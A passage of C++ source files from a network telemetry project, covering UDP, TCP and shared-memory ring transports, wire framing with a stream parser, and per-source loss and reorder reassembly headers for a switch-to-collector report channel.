        if (static_cast<unsigned>(n) < kBatch) break;
      }
      if (out.size() > before) return true;
      if (Clock::now() >= deadline) return true;
    }
  }

  bool send_to(std::uint16_t node, const Frame& f) override {
    if (node >= kMaxNodes || !have_addr_[node]) return false;
    scratch_.clear();
    encode_datagram(f, scratch_);
    for (;;) {
      const ssize_t n =
          ::sendto(fd_, scratch_.data(), scratch_.size(), MSG_NOSIGNAL,
                   reinterpret_cast<const sockaddr*>(&return_addr_[node]),
                   sizeof(return_addr_[node]));
      if (n >= 0) break;
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == ENOBUFS) break;  // lost; retransmit recovers
      return false;
    }
    ++counters_.tx_frames;
    counters_.tx_bytes += scratch_.size();
    return true;
  }

  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kUdp; }

 private:
  static constexpr std::size_t kMaxNodes = 256;

  std::string host_;
  std::uint16_t port_;
  int fd_ = -1;
  std::vector<std::vector<std::byte>> bufs_;
  sockaddr_in return_addr_[kMaxNodes] = {};
  bool have_addr_[kMaxNodes] = {};
  std::vector<std::byte> scratch_;
};

// ---------------------------------------------------------------- tcp --

class TcpSwitchTransport final : public ReportTransport {
 public:
  TcpSwitchTransport(std::string host, std::uint16_t port) : host_(std::move(host)), port_(port) {}

  ~TcpSwitchTransport() override {
    if (fd_ >= 0) ::close(fd_);
  }

  std::string connect(int timeout_ms) override {
    sockaddr_in addr{};
    if (!resolve_ipv4(host_, port_, addr)) {
      return "transport: cannot parse host '" + host_ + "' (use a dotted IPv4 address)";
    }
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    for (;;) {
      fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
      if (fd_ < 0) return sock_err("socket");
      if (::connect(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) == 0) break;
      ::close(fd_);
      fd_ = -1;
      if (Clock::now() >= deadline) return sock_err("connect (collector not up?)");
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    const int one = 1;
    ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    return {};
  }

  bool send(const Frame& f) override {
    scratch_.clear();
    encode_stream(f, scratch_);
    if (!send_all(fd_, scratch_.data(), scratch_.size())) return false;
    ++counters_.tx_frames;
    counters_.tx_bytes += scratch_.size();
    return true;
  }

  bool poll(Frame& out, int timeout_ms) override {
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    std::byte buf[kIoChunk];
    for (;;) {
      if (auto f = parser_.next()) {
        ++counters_.rx_frames;
        counters_.rx_bytes += kFrameHeaderBytes + f->payload.size();
        out = std::move(*f);
        return true;
      }
      if (parser_.error()) return false;
      const auto now = Clock::now();
      const int remain = now >= deadline
                             ? 0
                             : static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
                                                    deadline - now)
                                                    .count());
      if (!wait_readable(fd_, remain)) return false;
      const ssize_t n = ::recv(fd_, buf, sizeof(buf), 0);
      if (n <= 0) {
        if (n < 0 && errno == EINTR) continue;
        return false;  // peer closed
      }
      parser_.feed({buf, static_cast<std::size_t>(n)});
    }
  }

  [[nodiscard]] const TransportCounters& counters() const noexcept override {
    return counters_;
  }
  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kTcp; }

 private:
  std::string host_;
  std::uint16_t port_;
  int fd_ = -1;
  StreamParser parser_;
  std::vector<std::byte> scratch_;
  TransportCounters counters_;
};

class TcpCollectorEndpoint final : public CollectorBase {
 public:
  TcpCollectorEndpoint(std::string host, std::uint16_t port)
      : host_(std::move(host)), port_(port) {}

  ~TcpCollectorEndpoint() override {
    for (Conn& c : conns_) {
      if (c.fd >= 0) ::close(c.fd);
    }
    if (listen_fd_ >= 0) ::close(listen_fd_);
  }

  std::string listen() override {
    sockaddr_in addr{};
    if (!resolve_ipv4(host_, port_, addr)) {
      return "transport: cannot parse host '" + host_ + "' (use a dotted IPv4 address)";
    }
    listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (listen_fd_ < 0) return sock_err("socket");
    const int one = 1;
    ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) < 0) {
      return sock_err("bind");
    }
    if (::listen(listen_fd_, 64) < 0) return sock_err("listen");
    return {};
  }

  bool poll(std::vector<Frame>& out, int timeout_ms) override {
    const std::size_t before = out.size();
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    for (;;) {
      std::vector<pollfd> pfds;
      pfds.push_back({listen_fd_, POLLIN, 0});
      for (const Conn& c : conns_) pfds.push_back({c.fd, POLLIN, 0});
      // Connections accepted below are appended to conns_ after pfds was
      // built; only the first `scanned` entries have a matching pollfd.
      const std::size_t scanned = conns_.size();
      const auto now = Clock::now();
      const int remain = now >= deadline
                             ? 0
                             : static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
                                                    deadline - now)
                                                    .count());
      const int rc = ::poll(pfds.data(), pfds.size(), remain);
      if (rc < 0) {
        if (errno == EINTR) continue;
        return false;
      }
      if (rc == 0) return true;  // timeout: empty poll
      if (pfds[0].revents & POLLIN) {
        const int conn = ::accept(listen_fd_, nullptr, nullptr);
        if (conn >= 0) {
          const int one = 1;
          ::setsockopt(conn, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
          conns_.push_back(Conn{conn, std::make_unique<StreamParser>(), -1});
        }
      }
      for (std::size_t i = 0; i < scanned;) {
        Conn& c = conns_[i];
        if (!(pfds[1 + i].revents & (POLLIN | POLLHUP))) {
          ++i;
          continue;
        }
        // Scattered read: drain up to 128 KiB per ready connection in one
        // syscall; the stream parser reassembles frames across the iovec
        // boundary exactly like across torn reads.
        std::byte a[kIoChunk], b[kIoChunk];
        iovec iov[2] = {{a, sizeof(a)}, {b, sizeof(b)}};
        const ssize_t n = ::readv(c.fd, iov, 2);
        if (n <= 0) {
          if (n < 0 && errno == EINTR) {
            ++i;
            continue;
          }
          ::close(c.fd);
          conns_.erase(conns_.begin() + static_cast<std::ptrdiff_t>(i));
          // pfds are rebuilt next loop; restart the scan to stay aligned.
          break;
        }
        const std::size_t total = static_cast<std::size_t>(n);
        c.parser->feed({a, std::min(total, sizeof(a))});
        if (total > sizeof(a)) c.parser->feed({b, total - sizeof(a)});
        while (auto f = c.parser->next()) {
          c.node = static_cast<int>(f->source);
          ingest(std::move(*f), out);
        }
        if (c.parser->error()) return false;
        ++i;
      }
      if (out.size() > before) return true;
      if (Clock::now() >= deadline) return true;
    }
  }

  bool send_to(std::uint16_t node, const Frame& f) override {
    for (Conn& c : conns_) {
      if (c.node == static_cast<int>(node)) {
        scratch_.clear();
        encode_stream(f, scratch_);
        if (!send_all(c.fd, scratch_.data(), scratch_.size())) return false;
        ++counters_.tx_frames;
        counters_.tx_bytes += scratch_.size();
        return true;
      }
    }
    return false;
  }

  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kTcp; }

 private:
  struct Conn {
    int fd = -1;
    std::unique_ptr<StreamParser> parser;
    int node = -1;  // learned from the first frame's source field
  };
  std::string host_;
  std::uint16_t port_;
  int listen_fd_ = -1;
  std::vector<Conn> conns_;
  std::vector<std::byte> scratch_;
};

}  // namespace

const char* transport_kind_name(TransportKind k) noexcept {
  switch (k) {
    case TransportKind::kShm: return "shm";
    case TransportKind::kUdp: return "udp";
    case TransportKind::kTcp: return "tcp";
  }
  return "?";
}

util::Expected<EndpointSpec, std::string> parse_endpoint(const std::string& spec) {
  EndpointSpec out;
  std::string rest;
  if (spec.rfind("shm:", 0) == 0) {
    out.kind = TransportKind::kShm;
    out.target = spec.substr(4);
    if (out.target.empty()) return std::string("bad endpoint '" + spec + "': shm:PATHPREFIX");
    return out;
  }
  if (spec.rfind("udp:", 0) == 0) {
    out.kind = TransportKind::kUdp;
    rest = spec.substr(4);
  } else if (spec.rfind("tcp:", 0) == 0) {
    out.kind = TransportKind::kTcp;
    rest = spec.substr(4);
  } else {
    return std::string("bad endpoint '" + spec +
                       "': want shm:PATHPREFIX, udp:HOST:PORT or tcp:HOST:PORT");
  }
  const std::size_t colon = rest.rfind(':');
  if (colon == std::string::npos || colon == 0 || colon + 1 >= rest.size()) {
    return std::string("bad endpoint '" + spec + "': want HOST:PORT");
  }
  unsigned long port = 0;
  for (std::size_t i = colon + 1; i < rest.size(); ++i) {
    const char c = rest[i];
    if (c < '0' || c > '9') return std::string("bad endpoint '" + spec + "': non-numeric port");
    port = port * 10 + static_cast<unsigned long>(c - '0');
    if (port > 65535) return std::string("bad endpoint '" + spec + "': port > 65535");
  }
  out.target = rest.substr(0, colon);
  out.port = static_cast<std::uint16_t>(port);
  return out;
}

util::Expected<std::unique_ptr<ReportTransport>, std::string> make_switch_transport(
    const EndpointSpec& spec, std::uint16_t node) {
  switch (spec.kind) {
    case TransportKind::kShm:
      return std::unique_ptr<ReportTransport>(new ShmSwitchTransport(spec.target, node));
    case TransportKind::kUdp:
      return std::unique_ptr<ReportTransport>(
          new UdpSwitchTransport(spec.target, spec.port, node));
    case TransportKind::kTcp:
      return std::unique_ptr<ReportTransport>(new TcpSwitchTransport(spec.target, spec.port));
  }
  return std::string("unknown transport kind");
}

util::Expected<std::unique_ptr<CollectorEndpoint>, std::string> make_collector_endpoint(
    const EndpointSpec& spec, std::uint16_t nodes) {
  switch (spec.kind) {
    case TransportKind::kShm:
      return std::unique_ptr<CollectorEndpoint>(new ShmCollectorEndpoint(spec.target, nodes));
    case TransportKind::kUdp:
      return std::unique_ptr<CollectorEndpoint>(new UdpCollectorEndpoint(spec.target, spec.port));
    case TransportKind::kTcp:
      return std::unique_ptr<CollectorEndpoint>(new TcpCollectorEndpoint(spec.target, spec.port));
  }
  return std::string("unknown transport kind");
}

std::size_t max_frame_payload(TransportKind kind) noexcept {
  switch (kind) {
    case TransportKind::kUdp:
      return 32 * 1024;  // one datagram per frame; stay well under 65507
    case TransportKind::kShm:
    case TransportKind::kTcp:
      return 256 * 1024;
  }
  return 32 * 1024;
}

}  // namespace sonata::net::transport
