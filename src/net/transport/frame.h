// Wire framing for the multi-process report channel (ROADMAP item 2).
//
// Every inter-process message — mirrored report batches, raw-mirror
// tuples, polled partial aggregates, and the window-barrier control
// traffic — travels as one Frame. The frame layer is deliberately
// byte-level: payloads are opaque here (the typed payload codecs live in
// runtime/distributed, next to the structs they serialize), so sonata_net
// keeps its util-only dependency surface and the framing can be fuzzed in
// isolation exactly like the PR 3 report codec.
//
// Two encodings share one logical header {type, source, seq}:
//
//   datagram (UDP, one frame per datagram):
//     magic  u32  = 0x50A7F7A3
//     type   u8   (FrameType)
//     source u16  (sending node index)
//     seq    u64  (per-source data-frame sequence number)
//     payload     (to the end of the datagram)
//
//   stream (TCP / shared-memory ring):
//     len    u32  (= 11 + payload size: everything after this field)
//     type   u8
//     source u16
//     seq    u64
//     payload
//
// Data frames (kRecords / kRaw / kPartial) consume one sequence number
// each, so a receiver can detect loss, reordering and duplication per
// source (see reassembly.h). Control frames carry protocol state in `seq`
// instead: a kWindowEnd's seq is the sender's *next* data sequence number,
// which lets the receiver finalize the window's gap accounting without
// parsing the payload.
//
// decode_datagram and StreamParser are fully bounds-checked: truncated,
// torn, oversized or type-invalid input yields nullopt / a parse error,
// never a crash (fuzzed in tests/net_transport_test.cc).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <vector>

namespace sonata::net::transport {

inline constexpr std::uint32_t kFrameMagic = 0x50A7F7A3u;

enum class FrameType : std::uint8_t {
  kHello = 1,      // switch -> collector: node handshake (retransmitted until acked)
  kRecords = 2,    // switch -> collector: encoded EmitRecord batch for one shard
  kRaw = 3,        // switch -> collector: raw-mirror source tuples for one shard
  kPartial = 4,    // switch -> collector: one pipeline's polled register partials
  kWindowEnd = 5,  // switch -> collector: window barrier (seq = next data seq)
  kWinners = 6,    // collector -> switch: dynamic-filter winner installs
  kWindowAck = 7,  // collector -> switch: window closed (ends the barrier wait)
  kHelloAck = 8,   // collector -> switch: handshake accepted
};

// Frames that consume a per-source sequence number and run through the
// reassembly window; everything else is control traffic.
[[nodiscard]] constexpr bool is_data_frame(FrameType t) noexcept {
  return t == FrameType::kRecords || t == FrameType::kRaw || t == FrameType::kPartial;
}

[[nodiscard]] constexpr bool valid_frame_type(std::uint8_t t) noexcept {
  return t >= static_cast<std::uint8_t>(FrameType::kHello) &&
         t <= static_cast<std::uint8_t>(FrameType::kHelloAck);
}

struct Frame {
  FrameType type = FrameType::kHello;
  std::uint16_t source = 0;  // sending node index
  std::uint64_t seq = 0;
  std::vector<std::byte> payload;
};

// Bytes before the payload in either encoding.
inline constexpr std::size_t kFrameHeaderBytes = 15;
// Ceiling on a single frame's payload; larger frames are a protocol error
// (a torn length prefix must not make a stream receiver allocate GBs).
inline constexpr std::size_t kMaxFramePayload = 4u << 20;

// -- datagram encoding ---------------------------------------------------

void encode_datagram(const Frame& f, std::vector<std::byte>& out);
[[nodiscard]] std::optional<Frame> decode_datagram(std::span<const std::byte> data);

// -- stream encoding -----------------------------------------------------

// Appends the length-prefixed frame to `out` (callers batch several frames
// into one write).
void encode_stream(const Frame& f, std::vector<std::byte>& out);

// Incremental parser over an arbitrary re-chunking of a frame stream —
// feed() whatever recv/readv returned (torn reads, many frames at once)
// and drain next() until it returns nullopt. A malformed stream (bad
// length, bad type) sets error() and the parser stays stuck: a byte
// stream that lost framing cannot be resynchronized safely.
class StreamParser {
 public:
  void feed(std::span<const std::byte> data);
  [[nodiscard]] std::optional<Frame> next();
  [[nodiscard]] bool error() const noexcept { return error_; }
  [[nodiscard]] std::size_t buffered() const noexcept { return buf_.size() - pos_; }

 private:
  std::vector<std::byte> buf_;
  std::size_t pos_ = 0;  // consumed prefix, compacted in feed()
  bool error_ = false;
};

}  // namespace sonata::net::transport
