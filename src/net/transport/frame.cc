#include "net/transport/frame.h"

#include <cstring>

namespace sonata::net::transport {

namespace {

void put_u8(std::vector<std::byte>& out, std::uint8_t v) {
  out.push_back(static_cast<std::byte>(v));
}
void put_u16(std::vector<std::byte>& out, std::uint16_t v) {
  out.push_back(static_cast<std::byte>(v >> 8));
  out.push_back(static_cast<std::byte>(v & 0xff));
}
void put_u32(std::vector<std::byte>& out, std::uint32_t v) {
  for (int shift = 24; shift >= 0; shift -= 8) {
    out.push_back(static_cast<std::byte>((v >> shift) & 0xff));
  }
}
void put_u64(std::vector<std::byte>& out, std::uint64_t v) {
  for (int shift = 56; shift >= 0; shift -= 8) {
    out.push_back(static_cast<std::byte>((v >> shift) & 0xff));
  }
}

[[nodiscard]] std::uint16_t get_u16(const std::byte* p) noexcept {
  return static_cast<std::uint16_t>((std::to_integer<std::uint16_t>(p[0]) << 8) |
                                    std::to_integer<std::uint16_t>(p[1]));
}
[[nodiscard]] std::uint32_t get_u32(const std::byte* p) noexcept {
  std::uint32_t v = 0;
  for (int i = 0; i < 4; ++i) v = (v << 8) | std::to_integer<std::uint32_t>(p[i]);
  return v;
}
[[nodiscard]] std::uint64_t get_u64(const std::byte* p) noexcept {
  std::uint64_t v = 0;
  for (int i = 0; i < 8; ++i) v = (v << 8) | std::to_integer<std::uint64_t>(p[i]);
  return v;
}

}  // namespace

void encode_datagram(const Frame& f, std::vector<std::byte>& out) {
  out.clear();
  out.reserve(kFrameHeaderBytes + f.payload.size());
  put_u32(out, kFrameMagic);
  put_u8(out, static_cast<std::uint8_t>(f.type));
  put_u16(out, f.source);
  put_u64(out, f.seq);
  out.insert(out.end(), f.payload.begin(), f.payload.end());
}

std::optional<Frame> decode_datagram(std::span<const std::byte> data) {
  if (data.size() < kFrameHeaderBytes) return std::nullopt;
  if (get_u32(data.data()) != kFrameMagic) return std::nullopt;
  const std::uint8_t type = std::to_integer<std::uint8_t>(data[4]);
  if (!valid_frame_type(type)) return std::nullopt;
  if (data.size() - kFrameHeaderBytes > kMaxFramePayload) return std::nullopt;
  Frame f;
  f.type = static_cast<FrameType>(type);
  f.source = get_u16(data.data() + 5);
  f.seq = get_u64(data.data() + 7);
  f.payload.assign(data.begin() + kFrameHeaderBytes, data.end());
  return f;
}

void encode_stream(const Frame& f, std::vector<std::byte>& out) {
  out.reserve(out.size() + kFrameHeaderBytes + f.payload.size());
  put_u32(out, static_cast<std::uint32_t>(11 + f.payload.size()));
  put_u8(out, static_cast<std::uint8_t>(f.type));
  put_u16(out, f.source);
  put_u64(out, f.seq);
  out.insert(out.end(), f.payload.begin(), f.payload.end());
}

void StreamParser::feed(std::span<const std::byte> data) {
  if (error_) return;
  // Compact the consumed prefix before growing: steady-state keeps the
  // buffer at one partial frame, not the whole connection history.
  if (pos_ > 0) {
    buf_.erase(buf_.begin(), buf_.begin() + static_cast<std::ptrdiff_t>(pos_));
    pos_ = 0;
  }
  buf_.insert(buf_.end(), data.begin(), data.end());
}

std::optional<Frame> StreamParser::next() {
  if (error_) return std::nullopt;
  const std::size_t avail = buf_.size() - pos_;
  if (avail < 4) return std::nullopt;
  const std::uint32_t len = get_u32(buf_.data() + pos_);
  if (len < 11 || len - 11 > kMaxFramePayload) {
    error_ = true;  // framing lost: refuse to guess at a resync point
    return std::nullopt;
  }
  if (avail < 4 + static_cast<std::size_t>(len)) return std::nullopt;  // torn read
  const std::byte* p = buf_.data() + pos_ + 4;
  const std::uint8_t type = std::to_integer<std::uint8_t>(p[0]);
  if (!valid_frame_type(type)) {
    error_ = true;
    return std::nullopt;
  }
  Frame f;
  f.type = static_cast<FrameType>(type);
  f.source = get_u16(p + 1);
  f.seq = get_u64(p + 3);
  f.payload.assign(p + 11, p + len);
  pos_ += 4 + static_cast<std::size_t>(len);
  return f;
}

}  // namespace sonata::net::transport
