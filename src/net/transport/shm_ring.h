// Cross-process SPSC byte ring over a mmap'd file — the zero-syscall
// same-host report transport (the "Direct Telemetry Access" direction:
// frames land in the collector's address space with no per-frame kernel
// work on either side).
//
// Layout of the backing file:
//
//   header (256 bytes, cache-line separated):
//     magic    u64  (stored release-last by the creator; openers wait on it)
//     capacity u64  (data region bytes, power of two)
//     head     u64 atomic, producer-owned   (bytes ever written)
//     tail     u64 atomic, consumer-owned   (bytes ever read)
//   data (capacity bytes, ring-addressed by head/tail modulo capacity)
//
// Exactly one producer and one consumer, decided at attach time — the
// collector creates both per-node rings (an "up" ring it consumes and a
// "down" ring it produces into) and switch nodes open() them, retrying
// until the file exists, so creation is race-free without a lockfile.
//
// write() publishes whole byte spans with one release store; read() drains
// whatever is available with one acquire load. Frames use the stream
// encoding (frame.h) on top, so the consumer side runs the same
// StreamParser as TCP — torn wraps are just torn reads.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <span>
#include <string>

#include "util/expected.h"

namespace sonata::net::transport {

class ShmRing {
 public:
  static constexpr std::uint64_t kMagic = 0x50A75148'52494e47ULL;  // "SONATA SHM RING"
  static constexpr std::size_t kHeaderBytes = 256;

  ShmRing() = default;
  ~ShmRing();
  ShmRing(ShmRing&& other) noexcept;
  ShmRing& operator=(ShmRing&& other) noexcept;
  ShmRing(const ShmRing&) = delete;
  ShmRing& operator=(const ShmRing&) = delete;

  // Create (truncating any stale file) and map a ring of `capacity` data
  // bytes (rounded up to a power of two). The creator may act as either
  // side; the magic word is published last so openers never see a
  // half-initialized header.
  [[nodiscard]] static util::Expected<ShmRing, std::string> create(const std::string& path,
                                                                   std::size_t capacity);

  // Map an existing ring, waiting up to `timeout_ms` for the creator.
  [[nodiscard]] static util::Expected<ShmRing, std::string> open(const std::string& path,
                                                                 int timeout_ms);

  // Producer: append `data` atomically (all or nothing). Returns false
  // when the ring lacks space — the caller spins/yields and retries; the
  // window-barrier protocol bounds how much can ever be in flight.
  bool write(std::span<const std::byte> data);

  // Consumer: copy up to `max` available bytes into `buf`, returns the
  // count (0 = empty).
  std::size_t read(std::byte* buf, std::size_t max);

  [[nodiscard]] std::size_t readable() const noexcept;
  [[nodiscard]] std::size_t capacity() const noexcept { return capacity_; }
  [[nodiscard]] bool valid() const noexcept { return base_ != nullptr; }
  [[nodiscard]] const std::string& path() const noexcept { return path_; }

 private:
  struct Header {
    std::atomic<std::uint64_t> magic;
    std::uint64_t capacity;
    alignas(64) std::atomic<std::uint64_t> head;
    alignas(64) std::atomic<std::uint64_t> tail;
  };
  static_assert(sizeof(Header) <= kHeaderBytes);

  [[nodiscard]] Header* hdr() const noexcept { return reinterpret_cast<Header*>(base_); }
  [[nodiscard]] std::byte* data() const noexcept {
    return reinterpret_cast<std::byte*>(base_) + kHeaderBytes;
  }
  void unmap() noexcept;

  void* base_ = nullptr;
  std::size_t map_bytes_ = 0;
  std::size_t capacity_ = 0;
  std::string path_;
};

}  // namespace sonata::net::transport
