// ReportTransport: the inter-process report channel behind the
// `sonata_run --role switch|collector` deployment mode (ROADMAP item 2).
//
// Three implementations share one frame protocol (frame.h):
//
//   shm:PATHPREFIX   same-host mmap'd SPSC rings, zero syscalls per frame
//                    (collector creates <prefix>.n<i>.{up,down} per node;
//                    switch nodes open them)
//   udp:HOST:PORT    one frame per datagram, per-source sequence numbers
//                    with a reassembly window on the receive side — loss,
//                    reordering and duplication are tolerated and exactly
//                    accounted (reassembly.h); batched recvmmsg receive
//   tcp:HOST:PORT    length-prefixed frame stream, partial-read/short-
//                    write safe, batched readv receive; one connection
//                    per switch node
//
// Both roles are bidirectional: switch nodes send data + window barriers
// up, the collector sends winner installs + window acks down. The layer is
// byte-level on purpose — it frames opaque payloads, never decodes them —
// so sonata_net keeps linking only sonata_util, and the runtime-side
// protocol (runtime/distributed.h) owns all typed codecs.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "net/transport/frame.h"
#include "net/transport/reassembly.h"
#include "util/expected.h"

namespace sonata::net::transport {

enum class TransportKind { kShm, kUdp, kTcp };

[[nodiscard]] const char* transport_kind_name(TransportKind k) noexcept;

// Parsed form of "--listen/--connect shm:PREFIX | udp:HOST:PORT |
// tcp:HOST:PORT".
struct EndpointSpec {
  TransportKind kind = TransportKind::kTcp;
  std::string target;      // host (udp/tcp) or filesystem path prefix (shm)
  std::uint16_t port = 0;  // udp/tcp only
};

[[nodiscard]] util::Expected<EndpointSpec, std::string> parse_endpoint(const std::string& spec);

struct TransportCounters {
  std::uint64_t tx_frames = 0;
  std::uint64_t tx_bytes = 0;
  std::uint64_t rx_frames = 0;
  std::uint64_t rx_bytes = 0;
  std::uint64_t decode_errors = 0;  // datagrams/streams that failed to frame
};

// Switch-node side: one connection to the collector.
class ReportTransport {
 public:
  virtual ~ReportTransport() = default;

  // Establish the channel (open rings / connect the socket), waiting up to
  // `timeout_ms` for the collector to appear. Empty string on success.
  [[nodiscard]] virtual std::string connect(int timeout_ms) = 0;

  // Send one frame to the collector. Blocks until the transport accepted
  // the bytes (shm backpressure, TCP short writes); false on a dead peer.
  virtual bool send(const Frame& f) = 0;

  // Receive one feedback frame from the collector, waiting up to
  // `timeout_ms`. False on timeout (no frame) — the caller retries or
  // retransmits per protocol.
  virtual bool poll(Frame& out, int timeout_ms) = 0;

  [[nodiscard]] virtual const TransportCounters& counters() const noexcept = 0;
  [[nodiscard]] virtual TransportKind kind() const noexcept = 0;
};

// Collector side: frames from every node, post-reassembly, in per-source
// order.
class CollectorEndpoint {
 public:
  virtual ~CollectorEndpoint() = default;

  // Bind/create the receive side. Empty string on success.
  [[nodiscard]] virtual std::string listen() = 0;

  // Batched receive: appends deliverable frames to `out` (data frames in
  // per-source sequence order; a kWindowEnd finalizes its source's gap
  // accounting before being appended). Waits up to `timeout_ms` for the
  // first frame. Returns false on a fatal transport error.
  virtual bool poll(std::vector<Frame>& out, int timeout_ms) = 0;

  // Send one feedback frame to `node`. False when the node has not
  // completed its handshake yet (no return path known).
  virtual bool send_to(std::uint16_t node, const Frame& f) = 0;

  [[nodiscard]] virtual const Reassembly& reassembly() const noexcept = 0;
  [[nodiscard]] virtual const TransportCounters& counters() const noexcept = 0;
  [[nodiscard]] virtual TransportKind kind() const noexcept = 0;
};

// Factories. `node` is the switch node's index (frame source id);
// `nodes` is the number of switch-node processes the collector expects.
[[nodiscard]] util::Expected<std::unique_ptr<ReportTransport>, std::string>
make_switch_transport(const EndpointSpec& spec, std::uint16_t node);

[[nodiscard]] util::Expected<std::unique_ptr<CollectorEndpoint>, std::string>
make_collector_endpoint(const EndpointSpec& spec, std::uint16_t nodes);

// Largest payload a single frame should carry on this transport (UDP
// frames must fit one datagram; stream transports chunk for latency).
[[nodiscard]] std::size_t max_frame_payload(TransportKind kind) noexcept;

}  // namespace sonata::net::transport
