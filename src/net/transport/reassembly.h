// Per-source loss/reorder-tolerant reassembly for datagram transports.
//
// Each node numbers its data frames (kRecords/kRaw/kPartial) with a
// monotonically increasing per-source sequence. The receive side pushes
// every arriving data frame here and gets back the frames that are now
// deliverable *in sequence order*; out-of-order arrivals are buffered up
// to a bounded window, duplicates are discarded, and gaps that outlast
// the window — or survive to the sender's window-end barrier — are
// declared lost with exact accounting:
//
//   lost       every sequence number that was given up on, counted once
//   reordered  frames that arrived ahead of a gap and had to be buffered
//   resynced   times the window overflowed and the stream jumped forward
//   duplicates frames whose sequence was already delivered or buffered
//
// The counters feed the collector's per-source sonata_net_* metrics and
// the PR 5 partial-window machinery: a window with lost frames closes
// partial with the losing node's contribution bits cleared, so loss is
// visible end-to-end instead of silently shrinking results.
//
// In-order transports (TCP, shared-memory ring) run through the same code
// path — frames simply never buffer — so the accounting surface is
// uniform across transports.
#pragma once

#include <cstdint>
#include <map>
#include <vector>

#include "net/transport/frame.h"

namespace sonata::net::transport {

struct ReassemblyStats {
  std::uint64_t delivered = 0;
  std::uint64_t lost = 0;
  std::uint64_t reordered = 0;
  std::uint64_t resynced = 0;
  std::uint64_t duplicates = 0;
};

class Reassembly {
 public:
  // `window` bounds how far ahead of a gap frames may buffer before the
  // gap is declared lost and the stream resynchronizes.
  explicit Reassembly(std::size_t window = 256) : window_(window ? window : 1) {}

  // Push one data frame; deliverable frames (possibly none, possibly
  // several) are appended to `out` in sequence order.
  void push(Frame f, std::vector<Frame>& out);

  // Window barrier: the sender's next data sequence is `end_seq`, so every
  // undelivered sequence below it is now lost. Buffered frames past the
  // gaps are delivered (in order) and the stream resumes at end_seq.
  // Returns the number of sequences declared lost.
  std::uint64_t flush_to(std::uint16_t source, std::uint64_t end_seq, std::vector<Frame>& out);

  [[nodiscard]] ReassemblyStats stats(std::uint16_t source) const;
  [[nodiscard]] ReassemblyStats totals() const;
  [[nodiscard]] std::size_t sources() const noexcept { return per_source_.size(); }

 private:
  struct Source {
    std::uint64_t next = 0;  // next expected sequence
    std::map<std::uint64_t, Frame> buffered;
    ReassemblyStats stats;
  };

  void drain_ready(Source& s, std::vector<Frame>& out);

  std::size_t window_;
  std::map<std::uint16_t, Source> per_source_;
};

}  // namespace sonata::net::transport
