#include "net/transport/shm_ring.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>

namespace sonata::net::transport {

namespace {

std::size_t round_pow2(std::size_t v) {
  std::size_t p = 4096;
  while (p < v) p <<= 1;
  return p;
}

}  // namespace

ShmRing::~ShmRing() { unmap(); }

ShmRing::ShmRing(ShmRing&& other) noexcept
    : base_(other.base_),
      map_bytes_(other.map_bytes_),
      capacity_(other.capacity_),
      path_(std::move(other.path_)) {
  other.base_ = nullptr;
  other.map_bytes_ = 0;
  other.capacity_ = 0;
}

ShmRing& ShmRing::operator=(ShmRing&& other) noexcept {
  if (this != &other) {
    unmap();
    base_ = other.base_;
    map_bytes_ = other.map_bytes_;
    capacity_ = other.capacity_;
    path_ = std::move(other.path_);
    other.base_ = nullptr;
    other.map_bytes_ = 0;
    other.capacity_ = 0;
  }
  return *this;
}

void ShmRing::unmap() noexcept {
  if (base_ != nullptr) {
    ::munmap(base_, map_bytes_);
    base_ = nullptr;
  }
}

util::Expected<ShmRing, std::string> ShmRing::create(const std::string& path,
                                                     std::size_t capacity) {
  const std::size_t cap = round_pow2(capacity);
  const std::size_t total = kHeaderBytes + cap;
  const int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return "shm ring: cannot create " + path + ": " + std::strerror(errno);
  if (::ftruncate(fd, static_cast<off_t>(total)) != 0) {
    const std::string err = "shm ring: ftruncate " + path + ": " + std::strerror(errno);
    ::close(fd);
    return err;
  }
  void* base = ::mmap(nullptr, total, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  ::close(fd);
  if (base == MAP_FAILED) return "shm ring: mmap " + path + ": " + std::strerror(errno);

  ShmRing ring;
  ring.base_ = base;
  ring.map_bytes_ = total;
  ring.capacity_ = cap;
  ring.path_ = path;
  Header* h = ring.hdr();
  h->capacity = cap;
  h->head.store(0, std::memory_order_relaxed);
  h->tail.store(0, std::memory_order_relaxed);
  // Published last: an opener that observes the magic sees a fully
  // initialized header.
  h->magic.store(kMagic, std::memory_order_release);
  return ring;
}

util::Expected<ShmRing, std::string> ShmRing::open(const std::string& path, int timeout_ms) {
  const auto deadline =
      std::chrono::steady_clock::now() + std::chrono::milliseconds(timeout_ms);
  for (;;) {
    const int fd = ::open(path.c_str(), O_RDWR);
    if (fd >= 0) {
      struct stat st{};
      if (::fstat(fd, &st) == 0 && static_cast<std::size_t>(st.st_size) > kHeaderBytes) {
        const std::size_t total = static_cast<std::size_t>(st.st_size);
        void* base = ::mmap(nullptr, total, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        ::close(fd);
        if (base == MAP_FAILED) {
          return "shm ring: mmap " + path + ": " + std::strerror(errno);
        }
        Header* h = reinterpret_cast<Header*>(base);
